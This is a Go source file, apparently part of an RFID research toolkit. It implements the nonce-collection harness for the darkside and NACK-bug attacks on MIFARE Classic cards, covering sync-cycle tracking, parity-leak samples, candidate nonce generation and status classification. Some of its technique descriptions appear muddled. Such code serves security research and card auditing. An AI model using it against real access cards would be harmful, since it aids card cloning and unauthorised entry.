// Package darkside implements the nonce-collection attack harness used
// by the darkside and NACK-bug classes of MIFARE Classic attack (§4.7):
// synchronised cycle tracking, parity-leak NACK collection, and Moebius
// pair emission.
package darkside

import (
	"errors"

	"github.com/hf14a/engine/crypto1"
)

// Status mirrors the harness's outcome codes (§4.7, §9 "isOK").
type Status int

const (
	StatusOK Status = iota
	StatusNoCardInField
	StatusCardCommunicationFailed
	StatusNoValidNACKReceived
	StatusNotVulnerable
	StatusDesyncTooFarToRecover
	StatusTagLeaksParity
)

var errNoNACK = errors.New("darkside: tag did not send a NACK")

// Sample is one observation from the harness: the tag nonce that was in
// play when a NACK was received, and whether the parity bits leaked by
// that response were readable (§4.7).
type Sample struct {
	Nonce  uint32
	Parity byte // 3 parity bits of the partial auth response, packed low.
}

// Session tracks the harness's running state across NACK collection
// rounds: the PRNG distance already walked, how many full 16-bit PRNG
// sequences have elapsed since the first observed nonce, and the
// collected samples.
type Session struct {
	firstNonce uint32
	haveFirst  bool

	// SyncCycles is the PRNG clock count between the reader issuing AUTH
	// and the tag's nonce becoming observable; fixed once learned from
	// the first two samples (§4.7 "sync_cycles").
	SyncCycles int
	// CatchUpCycles accounts for USB/host round-trip jitter accumulated
	// since SyncCycles was established.
	CatchUpCycles int
	elapsedSeqs   int

	Samples []Sample
}

// NewSession returns an empty collection session.
func NewSession() *Session {
	return &Session{}
}

// Observe records a NACK sample. The first call establishes the
// baseline nonce; subsequent calls use DistNt to classify the sample
// against the expected synchronised cycle (§4.7 "dist_nt-based resync").
func (s *Session) Observe(sample Sample) {
	s.Samples = append(s.Samples, sample)
	if !s.haveFirst {
		s.firstNonce = sample.Nonce
		s.haveFirst = true
		return
	}
	d := crypto1.DistNt(s.firstNonce, sample.Nonce)
	if d == crypto1.InvalidDist {
		// Nonce fell outside the observed cycle entirely: the tag was
		// power-cycled or desynchronised further than a resync walk can
		// recover (§4.7, §9 StatusDesyncTooFarToRecover).
		s.elapsedSeqs++
		return
	}
	if d < 0 {
		d = -d
	}
	if s.SyncCycles == 0 {
		s.SyncCycles = d
		return
	}
	// A sample landing near a whole multiple of SyncCycles confirms the
	// reader/tag pair is still synchronised; otherwise bump the
	// elapsed-sequence counter the caller uses to detect drift.
	if d%max(s.SyncCycles, 1) > s.SyncCycles/4 {
		s.elapsedSeqs++
	}
}

// ElapsedSequences reports how many full PRNG cycles have passed since
// the baseline nonce without a confirming resync (§4.7
// "elapsed_prng_sequences").
func (s *Session) ElapsedSequences() int {
	return s.elapsedSeqs
}

// NtDiffCandidates returns the 8 candidate nt_diff values the darkside
// attack enumerates per round: entry i is the baseline nonce advanced by
// i PRNG clocks (i = 0..7), one per parity-bit-flip position (§4.7).
func (s *Session) NtDiffCandidates() [8]uint32 {
	var out [8]uint32
	for i := 0; i < 8; i++ {
		out[i] = crypto1.PRNGSuccessor(s.firstNonce, i)
	}
	return out
}

// MoebiusPair returns the two AUTH nonces the harness transmits back to
// back to provoke a parity-leaking NACK from a tag vulnerable to the
// static-nonce/NACK bug: the baseline nonce, and its PRNG successor one
// full authentication round later (§4.7 "Moebius pair emission").
func (s *Session) MoebiusPair(roundCycles int) (first, second uint32) {
	first = s.firstNonce
	second = crypto1.PRNGSuccessor(s.firstNonce, roundCycles)
	return first, second
}

// Classify turns the accumulated samples into a final harness status:
// StatusNoValidNACKReceived if nothing was ever observed, StatusOK once
// SyncCycles has been established from at least two consistent samples,
// otherwise StatusDesyncTooFarToRecover once the tag has drifted through
// too many unconfirmed cycles to keep walking (§4.7, §9).
func (s *Session) Classify() (Status, error) {
	if len(s.Samples) == 0 {
		return StatusNoValidNACKReceived, errNoNACK
	}
	if s.SyncCycles > 0 {
		return StatusOK, nil
	}
	if s.elapsedSeqs > 4 {
		return StatusDesyncTooFarToRecover, nil
	}
	return StatusNotVulnerable, nil
}
